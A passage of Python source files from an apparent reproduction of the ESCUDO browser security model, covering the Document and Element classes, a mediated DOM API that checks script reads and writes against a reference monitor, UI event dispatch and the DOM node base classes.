        copy.owner_document = copy
        copy.doctype = self.doctype
        copy._id_index = None
        copied_children = copy.children
        for child in self.children:
            child_copy = child.clone(owner=copy)
            child_copy.parent = copy
            copied_children.append(child_copy)
        return copy

    # -- identity ------------------------------------------------------------------

    @property
    def origin(self) -> Origin | None:
        """The document's origin, or ``None`` for ``about:blank``."""
        try:
            return Origin.parse(self.url)
        except Exception:
            return None

    # -- factories ------------------------------------------------------------------

    def create_element(self, tag_name: str, attributes: dict[str, str] | None = None) -> Element:
        """Create a detached element owned by this document."""
        element = Element(tag_name, attributes)
        element.owner_document = self
        return element

    def create_text_node(self, data: str) -> TextNode:
        """Create a detached text node owned by this document."""
        node = TextNode(data)
        node.owner_document = self
        return node

    def create_comment(self, data: str) -> CommentNode:
        """Create a detached comment node owned by this document."""
        node = CommentNode(data)
        node.owner_document = self
        return node

    # -- well-known elements ------------------------------------------------------------

    @property
    def document_element(self) -> Optional[Element]:
        """The root ``<html>`` element (or the first element child)."""
        for child in self.children:
            if isinstance(child, Element):
                return child
        return None

    @property
    def head(self) -> Optional[Element]:
        """The ``<head>`` element, if present."""
        return self._find_direct("head")

    @property
    def body(self) -> Optional[Element]:
        """The ``<body>`` element, if present."""
        return self._find_direct("body")

    def _find_direct(self, tag_name: str) -> Optional[Element]:
        root = self.document_element
        if root is None:
            return None
        if root.tag_name == tag_name:
            return root
        for child in root.element_children():
            if child.tag_name == tag_name:
                return child
        for el in self.elements():
            if el.tag_name == tag_name:
                return el
        return None

    # -- lookups --------------------------------------------------------------------------

    def elements(self) -> Iterator[Element]:
        """All elements in document order."""
        for node in self.descendants():
            if isinstance(node, Element):
                yield node

    def invalidate_id_index(self) -> None:
        """Drop the id lookup index (called on mutation; rebuilt lazily)."""
        self._id_index = None

    def get_element_by_id(self, element_id: str) -> Optional[Element]:
        """First element with the given ``id`` (served from the lazy index)."""
        index = self._id_index
        if index is None:
            index = {}
            for element in self.elements():
                eid = element.id
                if eid is not None and eid not in index:
                    index[eid] = element
            self._id_index = index
        return index.get(element_id)

    def get_elements_by_tag_name(self, tag_name: str) -> list[Element]:
        """Every element with the given tag name."""
        wanted = tag_name.lower()
        return [el for el in self.elements() if el.tag_name == wanted]

    def get_elements_by_class_name(self, class_name: str) -> list[Element]:
        """Every element whose ``class`` attribute contains ``class_name``."""
        return [el for el in self.elements() if class_name in el.class_list]

    def scripts(self) -> list[Element]:
        """Every ``<script>`` element, in document order."""
        return self.get_elements_by_tag_name("script")

    def count_elements(self) -> int:
        """Total number of elements (used by the benchmark reports)."""
        return sum(1 for _ in self.elements())

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"<Document {self.url!r} elements={self.count_elements()}>"
