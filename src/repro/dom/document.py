"""The Document node.

A :class:`Document` is the root of one parsed page.  It records the URL and
origin the page was loaded from, provides element factories (used both by
the parser and by the mediated DOM API), and offers the usual lookup helpers
(``get_element_by_id``, ``get_elements_by_tag_name``).
"""

from __future__ import annotations

from typing import Iterator, Optional

from repro.core.origin import Origin

from .element import Element
from .node import CommentNode, Node, NodeType, TextNode


class Document(Node):
    """Root node of a parsed web page."""

    node_type = NodeType.DOCUMENT

    def __init__(self, url: str = "about:blank") -> None:
        super().__init__()
        self.url = url
        self.owner_document = self
        self.doctype: str | None = None

    # -- identity ------------------------------------------------------------------

    @property
    def origin(self) -> Origin | None:
        """The document's origin, or ``None`` for ``about:blank``."""
        try:
            return Origin.parse(self.url)
        except Exception:
            return None

    # -- factories ------------------------------------------------------------------

    def create_element(self, tag_name: str, attributes: dict[str, str] | None = None) -> Element:
        """Create a detached element owned by this document."""
        element = Element(tag_name, attributes)
        element.owner_document = self
        return element

    def create_text_node(self, data: str) -> TextNode:
        """Create a detached text node owned by this document."""
        node = TextNode(data)
        node.owner_document = self
        return node

    def create_comment(self, data: str) -> CommentNode:
        """Create a detached comment node owned by this document."""
        node = CommentNode(data)
        node.owner_document = self
        return node

    # -- well-known elements ------------------------------------------------------------

    @property
    def document_element(self) -> Optional[Element]:
        """The root ``<html>`` element (or the first element child)."""
        for child in self.children:
            if isinstance(child, Element):
                return child
        return None

    @property
    def head(self) -> Optional[Element]:
        """The ``<head>`` element, if present."""
        return self._find_direct("head")

    @property
    def body(self) -> Optional[Element]:
        """The ``<body>`` element, if present."""
        return self._find_direct("body")

    def _find_direct(self, tag_name: str) -> Optional[Element]:
        root = self.document_element
        if root is None:
            return None
        if root.tag_name == tag_name:
            return root
        for child in root.element_children():
            if child.tag_name == tag_name:
                return child
        for el in self.elements():
            if el.tag_name == tag_name:
                return el
        return None

    # -- lookups --------------------------------------------------------------------------

    def elements(self) -> Iterator[Element]:
        """All elements in document order."""
        for node in self.descendants():
            if isinstance(node, Element):
                yield node

    def get_element_by_id(self, element_id: str) -> Optional[Element]:
        """First element with the given ``id``."""
        for element in self.elements():
            if element.id == element_id:
                return element
        return None

    def get_elements_by_tag_name(self, tag_name: str) -> list[Element]:
        """Every element with the given tag name."""
        wanted = tag_name.lower()
        return [el for el in self.elements() if el.tag_name == wanted]

    def get_elements_by_class_name(self, class_name: str) -> list[Element]:
        """Every element whose ``class`` attribute contains ``class_name``."""
        return [el for el in self.elements() if class_name in el.class_list]

    def scripts(self) -> list[Element]:
        """Every ``<script>`` element, in document order."""
        return self.get_elements_by_tag_name("script")

    def count_elements(self) -> int:
        """Total number of elements (used by the benchmark reports)."""
        return sum(1 for _ in self.elements())

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"<Document {self.url!r} elements={self.count_elements()}>"
