"""The mediated DOM API.

Scripts never touch :class:`~repro.dom.element.Element` objects directly --
they see :class:`DomApi` (bound as ``document`` in the script environment)
and :class:`ElementHandle` wrappers.  Every operation the wrappers expose is
mediated by the reference monitor with the *calling principal's* security
context, which is how ESCUDO achieves complete mediation of script/DOM
interactions:

* reading an element (attributes, ``innerHTML``, ``textContent``) is a
  ``read`` access on that element;
* modifying it (setting attributes, ``innerHTML``, appending or removing
  children) is a ``write`` access;
* the DOM API itself is a native-code object (Table 1); when the page
  configuration assigns it a ring, every facade call additionally requires a
  ``use`` access on the API object.

Denied operations are *neutralised*, not fatal: reads return ``None``,
writes return ``False`` and leave the tree untouched.  This mirrors the
prototype's behaviour in the paper's defence-effectiveness experiments, and
it lets attack scripts run to completion so the harness can observe that
they had no effect.

Anti-tampering (Section 5): the ESCUDO configuration attributes (``ring``,
``r``, ``w``, ``x``, ``nonce``) are never readable or writable through the
facade, regardless of ring, and newly created elements are labelled under
the scoping rule so a principal can never mint content more privileged than
the insertion point allows.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable

from repro.core.acl import Acl
from repro.core.config import PROTECTED_ATTRIBUTES, extract_ac_label
from repro.core.context import SecurityContext
from repro.core.decision import AccessDecision, Operation
from repro.core.monitor import ReferenceMonitor
from repro.core.scoping import effective_ring

from .document import Document
from .element import Element
from .node import TextNode
from .traversal import query_selector, query_selector_all


@dataclass
class DomApiStats:
    """Counters the overhead benchmark reads from a script run."""

    reads: int = 0
    writes: int = 0
    denied: int = 0
    created_elements: int = 0

    def note(self, decision: AccessDecision) -> None:
        """Fold one mediation result into the counters."""
        if decision.operation is Operation.READ:
            self.reads += 1
        elif decision.operation is Operation.WRITE:
            self.writes += 1
        if decision.denied:
            self.denied += 1


class ElementHandle:
    """Script-visible wrapper around one DOM element."""

    def __init__(self, element: Element, api: "DomApi") -> None:
        self._element = element
        self._api = api

    # -- identity -----------------------------------------------------------------

    @property
    def tag_name(self) -> str:
        """Tag name (always readable: it is needed to even address the node)."""
        return self._element.tag_name

    @property
    def exists(self) -> bool:
        """Always true; present so scripts can null-check lookups uniformly."""
        return True

    def unwrap_for_browser(self) -> Element:
        """Internal escape hatch for browser code (not exposed to scripts)."""
        return self._element

    # -- reads ----------------------------------------------------------------------

    def get_attribute(self, name: str) -> str | None:
        """Read an attribute, subject to the ``read`` check.

        ESCUDO configuration attributes are never visible to scripts.
        """
        if name.lower() in PROTECTED_ATTRIBUTES:
            self._api.record_tamper_attempt(self._element, name, operation=Operation.READ)
            return None
        if not self._api.authorize(self._element, Operation.READ):
            return None
        return self._element.get_attribute(name)

    @property
    def text_content(self) -> str | None:
        """Concatenated text of the element, subject to the ``read`` check."""
        if not self._api.authorize(self._element, Operation.READ):
            return None
        return self._element.text_content

    @property
    def inner_html(self) -> str | None:
        """Serialised markup of the element's children (``read`` check)."""
        if not self._api.authorize(self._element, Operation.READ):
            return None
        from repro.html.serializer import serialize_children  # local import: avoids cycle

        return serialize_children(self._element)

    @property
    def id(self) -> str | None:
        """The element's id attribute (``read`` check)."""
        return self.get_attribute("id")

    # -- writes ----------------------------------------------------------------------

    def set_attribute(self, name: str, value: str) -> bool:
        """Write an attribute, subject to tamper protection and ``write`` check."""
        if name.lower() in PROTECTED_ATTRIBUTES:
            self._api.record_tamper_attempt(self._element, name, operation=Operation.WRITE)
            return False
        if name.lower().startswith("on"):
            # Inline handlers minted at runtime would become new principals;
            # they inherit the writer's privileges at dispatch time, so the
            # write check below is the right gate (no extra rule needed).
            pass
        if not self._api.authorize(self._element, Operation.WRITE):
            return False
        self._element.set_attribute(name, value)
        return True

    def set_text_content(self, text: str) -> bool:
        """Replace the element's children with a single text node."""
        if not self._api.authorize(self._element, Operation.WRITE):
            return False
        self._element.replace_children([TextNode(text)])
        return True

    def set_inner_html(self, markup: str) -> bool:
        """Parse ``markup`` and replace the element's children with it.

        The parsed fragment is labelled under the scoping rule: nothing
        inside it can exceed the privilege of this element's ring, no matter
        what ``ring`` attributes the markup claims.
        """
        if not self._api.authorize(self._element, Operation.WRITE):
            return False
        from repro.html.parser import parse_fragment  # local import: avoids cycle

        fragment_children = parse_fragment(markup, owner=self._element.owner_document)
        self._element.replace_children(list(fragment_children))
        for child in self._element.children:
            if isinstance(child, Element):
                self._api.label_created_subtree(child, parent=self._element)
        return True

    def append_child(self, child: "ElementHandle") -> bool:
        """Append a (script-created) element, subject to the ``write`` check."""
        if not self._api.authorize(self._element, Operation.WRITE):
            return False
        element = child._element
        self._element.append_child(element)
        self._api.label_created_subtree(element, parent=self._element)
        return True

    def remove_child(self, child: "ElementHandle") -> bool:
        """Remove a child element, subject to the ``write`` check."""
        if not self._api.authorize(self._element, Operation.WRITE):
            return False
        try:
            self._element.remove_child(child._element)
        except ValueError:
            return False
        return True

    def add_event_listener(self, event_type: str, listener: Callable) -> bool:
        """Register a script listener (a ``write`` on the element).

        The listener will run with the registering principal's context when
        the event is later delivered (see :mod:`repro.browser.ui_events`).
        """
        if not self._api.authorize(self._element, Operation.WRITE):
            return False
        self._api.register_listener(self._element, event_type, listener)
        return True

    # -- queries scoped to this element ------------------------------------------------

    def query_selector(self, selector: str) -> "ElementHandle | None":
        """First matching descendant (the subsequent reads are still mediated)."""
        found = query_selector(self._element, selector)
        return self._api.wrap(found) if found is not None else None

    def query_selector_all(self, selector: str) -> list["ElementHandle"]:
        """All matching descendants (the sweep pre-warms the decision cache)."""
        return self._api.wrap_all(query_selector_all(self._element, selector))

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"<ElementHandle {self._element.tag_name}>"


class DomApi:
    """The ``document`` object exposed to scripts, bound to one principal."""

    def __init__(
        self,
        document: Document,
        monitor: ReferenceMonitor,
        principal: SecurityContext,
        *,
        api_object: SecurityContext | None = None,
        listener_registry: Callable[[Element, str, Callable], None] | None = None,
        default_new_element_acl: Acl | None = None,
    ) -> None:
        self.document = document
        self.monitor = monitor
        self.principal = principal
        self.api_object = api_object
        self.stats = DomApiStats()
        self.last_denial: AccessDecision | None = None
        self._listener_registry = listener_registry
        self._default_new_element_acl = default_new_element_acl
        # Mediation memos: the decision-bearing context for an element is a
        # pure function of its tag name and security context, so display
        # labels (and fail-safe defaults for unlabelled elements) are built
        # once per distinct (tag, context) pair instead of per access --
        # rebuilding those f-strings per access costs more than the cached
        # mediation itself on the hot path.
        self._labeled_contexts: dict[tuple[str, SecurityContext], SecurityContext] = {}
        self._fallback_contexts: dict[str, SecurityContext] = {}

    # -- mediation helpers ----------------------------------------------------------

    def _context_of(self, element: Element) -> SecurityContext:
        """The element's context, or the memoised fail-safe default.

        Unlabelled elements only exist before labelling finishes; they get
        the fail-safe default (least privilege, ring-0 ACL).
        """
        context = element.security_context
        if context is not None:
            return context
        tag = element.tag_name
        context = self._fallback_contexts.get(tag)
        if context is None:
            context = SecurityContext.for_page_default(
                origin=self.principal.origin, rings=_default_rings(), label=f"<{tag}>"
            )
            self._fallback_contexts[tag] = context
        return context

    def _decision_target(self, element: Element) -> SecurityContext:
        """The element's context carrying its decision display label."""
        context = self._context_of(element)
        key = (element.tag_name, context)
        labeled = self._labeled_contexts.get(key)
        if labeled is None:
            labeled = context.with_label(f"<{element.tag_name}> {context.label}")
            self._labeled_contexts[key] = labeled
        return labeled

    def _use_api_allowed(self) -> bool:
        """Mediate the ``use`` access on the DOM API object itself."""
        if self.api_object is None:
            return True
        api_decision = self.monitor.authorize(
            self.principal,
            self.api_object,
            Operation.USE,
            object_label="DOM API (native-api)",
        )
        if api_decision.denied:
            self.last_denial = api_decision
            self.stats.note(api_decision)
            return False
        return True

    def authorize(self, element: Element, operation: Operation) -> bool:
        """Run the monitor for one element access by this API's principal."""
        if not self._use_api_allowed():
            return False
        decision = self.monitor.authorize(self.principal, self._decision_target(element), operation)
        self.stats.note(decision)
        if decision.denied:
            self.last_denial = decision
            return False
        return True

    def authorize_sweep(self, elements: list[Element], operation: Operation) -> list[bool]:
        """Batch-mediate one operation over many elements.

        A sweep is one facade call, so the DOM API ``use`` check runs once;
        the per-element checks go through the monitor's batch path, which
        coerces the principal once and decides each distinct context once.
        Every element still gets its own recorded decision.
        """
        if not elements:
            return []
        if not self._use_api_allowed():
            return [False] * len(elements)
        targets = [self._decision_target(element) for element in elements]
        decisions = self.monitor.authorize_all(self.principal, targets, operation)
        verdicts: list[bool] = []
        for decision in decisions:
            self.stats.note(decision)
            if decision.denied:
                self.last_denial = decision
            verdicts.append(decision.allowed)
        return verdicts

    def warm_read_cache(self, elements: list[Element]) -> int:
        """Precompute read verdicts for a traversal sweep (no access recorded).

        Called by the traversal entry points so the per-element reads that
        typically follow a ``getElementsByTagName``/selector walk are all
        decision-cache hits.  Returns the number of distinct verdicts warmed.
        """
        if not elements or self.monitor.cache is None:
            return 0
        # warm() dedups distinct contexts itself; just stream the targets.
        targets = (self._decision_target(element) for element in elements)
        return self.monitor.warm(self.principal, targets, Operation.READ)

    def record_tamper_attempt(self, element: Element, attribute: str, *, operation: Operation) -> None:
        """Log an attempt to touch ESCUDO configuration attributes."""
        decision = self.monitor.deny_tampering(
            self.principal,
            element.security_context
            or SecurityContext.for_page_default(self.principal.origin, _default_rings(), f"<{element.tag_name}>"),
            operation,
            reason=f"attribute {attribute!r} holds ESCUDO configuration",
            object_label=f"<{element.tag_name}>",
        )
        self.stats.note(decision)
        self.last_denial = decision

    def register_listener(self, element: Element, event_type: str, listener: Callable) -> None:
        """Forward listener registration to the browser's dispatcher."""
        if self._listener_registry is not None:
            self._listener_registry(element, event_type, listener)

    # -- labelling of dynamically created content ----------------------------------------

    def label_created_subtree(self, element: Element, *, parent: Element) -> None:
        """Assign contexts to a script-created subtree under the scoping rule.

        The new content can never be more privileged than the insertion
        point: its effective ring is its declared ring (if any) clamped to
        the parent's ring.  ACLs declared in the markup are honoured (they
        cannot grant beyond the ring rule anyway); elements without an ACL
        inherit the parent's ACL so that application scripts can keep
        managing the content they legitimately created.
        """
        parent_context = parent.security_context
        if parent_context is None:
            parent_context = SecurityContext.for_page_default(
                self.principal.origin, _default_rings(), f"<{parent.tag_name}>"
            )
        self._label_recursive(element, parent_context)

    def _label_recursive(self, element: Element, parent_context: SecurityContext) -> None:
        label = extract_ac_label(element.attributes)
        ring = effective_ring(label.declared_ring, parent_context.ring)
        # Dynamically created principals are additionally bounded by their
        # creator: a ring-3 script cannot mint a ring-1 script even inside a
        # ring-1 container it somehow got write access to.
        ring = ring.restricted_to(self.principal.ring)
        if label.acl is not None:
            acl = label.acl
        elif self._default_new_element_acl is not None:
            acl = self._default_new_element_acl
        else:
            acl = parent_context.acl
        context = SecurityContext(
            origin=parent_context.origin,
            ring=ring,
            acl=acl,
            label=f"dynamic <{element.tag_name}>",
        )
        if element.security_context is None:
            element.assign_security_context(context)
        for child in element.element_children():
            self._label_recursive(child, context)

    # -- script-facing API -----------------------------------------------------------------

    def wrap(self, element: Element) -> ElementHandle:
        """Wrap an element for script consumption."""
        return ElementHandle(element, self)

    def wrap_all(self, elements: list[Element]) -> list[ElementHandle]:
        """Wrap a traversal sweep's results, pre-warming the decision cache.

        Bulk lookups are almost always followed by per-element reads; warming
        the read verdicts here (one batch over the distinct contexts) turns
        that walk into pure cache hits without recording any access the
        script has not actually performed.
        """
        self.warm_read_cache(elements)
        return [ElementHandle(element, self) for element in elements]

    def get_element_by_id(self, element_id: str) -> ElementHandle | None:
        """``document.getElementById``."""
        element = self.document.get_element_by_id(element_id)
        return self.wrap(element) if element is not None else None

    def query_selector(self, selector: str) -> ElementHandle | None:
        """``document.querySelector``."""
        element = query_selector(self.document, selector)
        return self.wrap(element) if element is not None else None

    def query_selector_all(self, selector: str) -> list[ElementHandle]:
        """``document.querySelectorAll`` (batch-warmed sweep)."""
        return self.wrap_all(query_selector_all(self.document, selector))

    def get_elements_by_tag_name(self, tag_name: str) -> list[ElementHandle]:
        """``document.getElementsByTagName`` (batch-warmed sweep)."""
        return self.wrap_all(self.document.get_elements_by_tag_name(tag_name))

    def create_element(self, tag_name: str) -> ElementHandle:
        """``document.createElement`` -- the element is labelled on insertion."""
        element = self.document.create_element(tag_name)
        self.stats.created_elements += 1
        return self.wrap(element)

    @property
    def body(self) -> ElementHandle | None:
        """``document.body``."""
        body = self.document.body
        return self.wrap(body) if body is not None else None

    @property
    def head(self) -> ElementHandle | None:
        """``document.head``."""
        head = self.document.head
        return self.wrap(head) if head is not None else None

    @property
    def title(self) -> str:
        """``document.title`` (reads are unmediated: the title is page chrome)."""
        titles = self.document.get_elements_by_tag_name("title")
        return titles[0].text_content if titles else ""


@dataclass
class _RingDefaults:
    """Cache for the default ring universe used when labelling is incomplete."""

    rings: object = field(default=None)


_defaults = _RingDefaults()


def _default_rings():
    from repro.core.rings import RingSet

    if _defaults.rings is None:
        _defaults.rings = RingSet()
    return _defaults.rings
