"""DOM elements.

Elements are the dual-role entities of the ESCUDO model: they are *objects*
when scripts read or modify them through the DOM API, and some of them are
*principals* when instantiated (``script`` tags, ``img``/``a``/``form``/
``iframe`` tags that issue HTTP requests, tags carrying UI event handlers).

Each element therefore carries a security context, assigned exactly once by
the labelling engine (:mod:`repro.browser.labeler`) when the page is parsed
or when a script legitimately creates the element.  The raw attribute
dictionary here is *not* reachable from page scripts -- scripts only see the
mediated facade in :mod:`repro.dom.dom_api` -- so storing the context on the
element does not expose it to tampering.
"""

from __future__ import annotations

from typing import Iterator, Mapping, Optional, Sequence

from repro.core.config import RING_ATTRIBUTE, extract_ac_label, is_ac_tag
from repro.core.context import SecurityContext
from repro.core.errors import TamperingError
from repro.core.principal import classify_tag, event_handler_attributes
from repro.core.rings import Ring

from .node import Node, NodeType

#: Elements that never have closing tags or children.
VOID_ELEMENTS = frozenset(
    {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta",
     "param", "source", "track", "wbr"}
)

#: Elements whose content is raw text (not parsed as markup).
RAW_TEXT_ELEMENTS = frozenset({"script", "style", "title", "textarea"})


class Element(Node):
    """One HTML element with attributes, children and a security context."""

    node_type = NodeType.ELEMENT

    def __init__(self, tag_name: str, attributes: Mapping[str, str] | None = None) -> None:
        super().__init__()
        self.tag_name = tag_name.lower()
        self._attributes: dict[str, str] = {}
        if attributes:
            for name, value in attributes.items():
                self._attributes[str(name).lower()] = str(value)
        self._security_context: SecurityContext | None = None

    def _clone_shallow(self) -> "Element":
        clone = super()._clone_shallow()
        clone.tag_name = self.tag_name
        clone._attributes = dict(self._attributes)
        # Security contexts are frozen values, so sharing the reference keeps
        # the clone aliasing-free; an unlabelled element clones unlabelled
        # (the labelling engine assigns the clone's context exactly once).
        clone._security_context = self._security_context
        return clone

    # -- attributes (unmediated; browser-internal use only) -------------------------

    def get_attribute(self, name: str) -> str | None:
        """Raw attribute read (browser-internal; scripts go through the facade)."""
        return self._attributes.get(name.lower())

    def set_attribute(self, name: str, value: str) -> None:
        """Raw attribute write (browser-internal; scripts go through the facade)."""
        lowered = name.lower()
        self._attributes[lowered] = str(value)
        if lowered == "id":
            self._note_tree_change()

    def remove_attribute(self, name: str) -> None:
        """Raw attribute removal."""
        lowered = name.lower()
        if self._attributes.pop(lowered, None) is not None and lowered == "id":
            self._note_tree_change()

    def has_attribute(self, name: str) -> bool:
        """True when the attribute exists (even if empty)."""
        return name.lower() in self._attributes

    @property
    def attributes(self) -> dict[str, str]:
        """Copy of the attribute map (mutating the copy has no effect)."""
        return dict(self._attributes)

    @property
    def id(self) -> str | None:
        """The element's ``id`` attribute."""
        return self._attributes.get("id")

    @property
    def class_list(self) -> list[str]:
        """The element's classes as a list."""
        return self._attributes.get("class", "").split()

    # -- ESCUDO labelling --------------------------------------------------------------

    @property
    def security_context(self) -> SecurityContext | None:
        """The element's security context (``None`` until the page is labelled)."""
        return self._security_context

    def assign_security_context(self, context: SecurityContext, *, browser_authority: bool = False) -> None:
        """Attach the security context, enforcing assign-exactly-once.

        The labelling engine calls this during parsing; re-assignment without
        browser authority is a tampering attempt and raises.
        """
        if self._security_context is not None and not browser_authority:
            raise TamperingError(
                f"security context of <{self.tag_name}> is already assigned; "
                "ESCUDO performs ring mapping exactly once"
            )
        self._security_context = context

    @property
    def is_ac_tag(self) -> bool:
        """True when this element is an access-control ``div``."""
        return is_ac_tag(self.tag_name, self._attributes)

    @property
    def declared_ring(self) -> Ring | None:
        """The ring this element's markup asked for (before the scoping rule)."""
        label = extract_ac_label(self._attributes)
        return label.declared_ring

    @property
    def declared_nonce(self) -> str | None:
        """The markup-randomisation nonce on this element, if any."""
        return extract_ac_label(self._attributes).nonce

    @property
    def scope_path(self) -> str:
        """Human-readable path used in scoping-violation reports."""
        parts: list[str] = []
        node: Node | None = self
        while node is not None and isinstance(node, Element):
            descriptor = node.tag_name
            if node.id:
                descriptor += f"#{node.id}"
            elif node.has_attribute(RING_ATTRIBUTE):
                descriptor += f"[ring={node.get_attribute(RING_ATTRIBUTE)}]"
            parts.append(descriptor)
            node = node.parent
        return "/".join(reversed(parts))

    def child_scopes(self) -> Sequence["Element"]:
        """Child elements (satisfies the :class:`LabeledScope` protocol)."""
        return [child for child in self.children if isinstance(child, Element)]

    # -- principal classification --------------------------------------------------------

    @property
    def principal_kind(self):
        """Principal classification of this element's tag, or ``None``."""
        return classify_tag(self.tag_name)

    @property
    def event_handlers(self) -> dict[str, str]:
        """Inline UI event handler attributes (``onclick`` etc.)."""
        return event_handler_attributes(self._attributes)

    # -- queries --------------------------------------------------------------------------

    def element_children(self) -> list["Element"]:
        """Child nodes that are elements."""
        return [child for child in self.children if isinstance(child, Element)]

    def element_descendants(self) -> Iterator["Element"]:
        """All descendant elements, in document order."""
        for node in self.descendants():
            if isinstance(node, Element):
                yield node

    def get_elements_by_tag_name(self, tag_name: str) -> list["Element"]:
        """Descendant elements with the given tag name."""
        wanted = tag_name.lower()
        return [el for el in self.element_descendants() if el.tag_name == wanted]

    def get_element_by_id(self, element_id: str) -> Optional["Element"]:
        """First descendant with the given ``id``."""
        for el in self.element_descendants():
            if el.id == element_id:
                return el
        return None

    def closest_ac_ancestor(self) -> Optional["Element"]:
        """Nearest ancestor that is an AC tag, or ``None``."""
        for ancestor in self.ancestors():
            if isinstance(ancestor, Element) and ancestor.is_ac_tag:
                return ancestor
        return None

    @property
    def is_void(self) -> bool:
        """True when this element never has children (``img``, ``br``...)."""
        return self.tag_name in VOID_ELEMENTS

    @property
    def is_raw_text(self) -> bool:
        """True when this element's content is raw text (``script``, ``style``)."""
        return self.tag_name in RAW_TEXT_ELEMENTS

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        ident = f"#{self.id}" if self.id else ""
        ring = ""
        if self._security_context is not None:
            ring = f" ring={self._security_context.ring.level}"
        return f"<Element {self.tag_name}{ident}{ring} children={len(self.children)}>"
