"""UI events.

The paper treats the delivery of a UI event to a DOM element as a ``use``
access: the principal behind the event (the handler that will run, or the
browser acting for the user) must be allowed to use the target element.
This module provides the event value type and a small dispatcher with
capture-free bubbling; the *mediation* of delivery is done by the browser's
UI event layer (:mod:`repro.browser.ui_events`), which consults the
reference monitor before invoking handlers.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Iterable

from .element import Element
from .node import Node

#: Event types the reproduction exercises.
SUPPORTED_EVENT_TYPES = (
    "load",
    "click",
    "mouseover",
    "mouseout",
    "submit",
    "change",
    "focus",
    "blur",
    "keydown",
    "keyup",
)


@dataclass
class Event:
    """One UI event travelling through the DOM."""

    event_type: str
    target: Element | None = None
    bubbles: bool = True
    default_prevented: bool = False
    propagation_stopped: bool = False
    detail: dict = field(default_factory=dict)

    def prevent_default(self) -> None:
        """Mark the event's default action as cancelled."""
        self.default_prevented = True

    def stop_propagation(self) -> None:
        """Stop the event from bubbling further."""
        self.propagation_stopped = True

    @property
    def handler_attribute(self) -> str:
        """The inline-handler attribute corresponding to this event type."""
        return f"on{self.event_type}"


Listener = Callable[[Event], None]


class EventDispatcher:
    """Registers listeners on elements and bubbles events to them.

    Listener registration is keyed by element identity.  The dispatcher is
    intentionally unaware of ESCUDO; the browser's UI event layer decides
    *whether* an event may be delivered to a given element before calling
    :meth:`dispatch`.
    """

    def __init__(self) -> None:
        self._listeners: dict[int, dict[str, list[Listener]]] = {}

    def add_listener(self, element: Element, event_type: str, listener: Listener) -> None:
        """Register ``listener`` for ``event_type`` events on ``element``."""
        per_element = self._listeners.setdefault(id(element), {})
        per_element.setdefault(event_type, []).append(listener)

    def remove_listener(self, element: Element, event_type: str, listener: Listener) -> None:
        """Remove a previously registered listener (no error if absent)."""
        per_element = self._listeners.get(id(element), {})
        listeners = per_element.get(event_type, [])
        if listener in listeners:
            listeners.remove(listener)

    def listeners_for(self, element: Element, event_type: str) -> list[Listener]:
        """Listeners registered directly on ``element`` for ``event_type``."""
        return list(self._listeners.get(id(element), {}).get(event_type, []))

    def propagation_path(self, target: Element) -> list[Element]:
        """The target followed by its element ancestors (bubble order)."""
        path: list[Element] = [target]
        for ancestor in target.ancestors():
            if isinstance(ancestor, Element):
                path.append(ancestor)
        return path

    def dispatch(self, event: Event, *, deliverable: Callable[[Element], bool] | None = None) -> list[Element]:
        """Deliver ``event`` along the bubble path.

        ``deliverable`` is the mediation hook: when provided, each element in
        the path is delivered the event only if the callback returns true
        (the browser passes a closure that consults the reference monitor).
        Returns the list of elements that actually received the event.
        """
        if event.target is None:
            return []
        delivered: list[Element] = []
        path: Iterable[Element] = self.propagation_path(event.target)
        if not event.bubbles:
            path = [event.target]
        for element in path:
            if event.propagation_stopped:
                break
            if deliverable is not None and not deliverable(element):
                continue
            delivered.append(element)
            for listener in self.listeners_for(element, event.event_type):
                listener(event)
                if event.propagation_stopped:
                    break
        return delivered

    def clear(self) -> None:
        """Drop every registered listener (page teardown)."""
        self._listeners.clear()


def nodes_with_inline_handlers(root: Node) -> list[tuple[Element, dict[str, str]]]:
    """Find every element carrying inline ``on*`` handler attributes."""
    found = []
    for node in root.descendants():
        if isinstance(node, Element):
            handlers = node.event_handlers
            if handlers:
                found.append((node, handlers))
    return found
