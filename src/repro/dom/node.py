"""DOM node base classes.

The browser represents a parsed page as a tree of nodes: elements, text,
comments and the document root.  This module provides the structural layer
-- parent/child links, insertion and removal, tree traversal -- with no
security semantics.  Mediation lives one layer up, in
:mod:`repro.dom.dom_api`, which is the only surface scripts can reach.
"""

from __future__ import annotations

import enum
from typing import Iterator, Optional


class NodeType(enum.IntEnum):
    """Subset of DOM node types the reproduction models."""

    ELEMENT = 1
    TEXT = 3
    COMMENT = 8
    DOCUMENT = 9


class Node:
    """Base class for every node in the document tree."""

    node_type: NodeType = NodeType.ELEMENT

    def __init__(self) -> None:
        self.parent: Optional["Node"] = None
        self.children: list["Node"] = []
        self.owner_document = None  # set by Document.adopt / the parser

    # -- structure ----------------------------------------------------------------

    def _note_tree_change(self) -> None:
        """Invalidate the owning document's ``getElementById`` index.

        ``owner_document`` is authoritative for attached nodes (adoption
        re-owns whole subtrees, see :meth:`_adopt`), so invalidation is one
        attribute check.  Mutations on a detached subtree conservatively
        invalidate the owning document too -- harmless over-invalidation,
        and free while the index is unbuilt.
        """
        owner = self.owner_document
        if owner is not None and owner._id_index is not None:  # type: ignore[attr-defined]
            owner._id_index = None  # type: ignore[attr-defined]

    def _adopt(self, child: "Node") -> None:
        """Point ``child`` (and, when it moves documents, its whole subtree)
        at this node's owner document.

        Re-owning the subtree keeps ``owner_document`` authoritative for
        every attached node; the walk only runs on cross-document adoption,
        never on same-document moves or parser appends.
        """
        owner = self.owner_document
        if child.owner_document is owner:
            return
        child.owner_document = owner
        for node in child.descendants():
            node.owner_document = owner

    def append_child(self, child: "Node") -> "Node":
        """Append ``child`` (detaching it from any previous parent) and return it."""
        if child is self or self._is_ancestor(child):
            raise ValueError("cannot append a node inside itself")
        child.detach()
        child.parent = self
        self._adopt(child)
        self.children.append(child)
        self._note_tree_change()
        return child

    def insert_before(self, new_child: "Node", reference: "Node | None") -> "Node":
        """Insert ``new_child`` immediately before ``reference`` (or append)."""
        if reference is None:
            return self.append_child(new_child)
        if reference.parent is not self:
            raise ValueError("reference node is not a child of this node")
        new_child.detach()
        new_child.parent = self
        self._adopt(new_child)
        index = self.children.index(reference)
        self.children.insert(index, new_child)
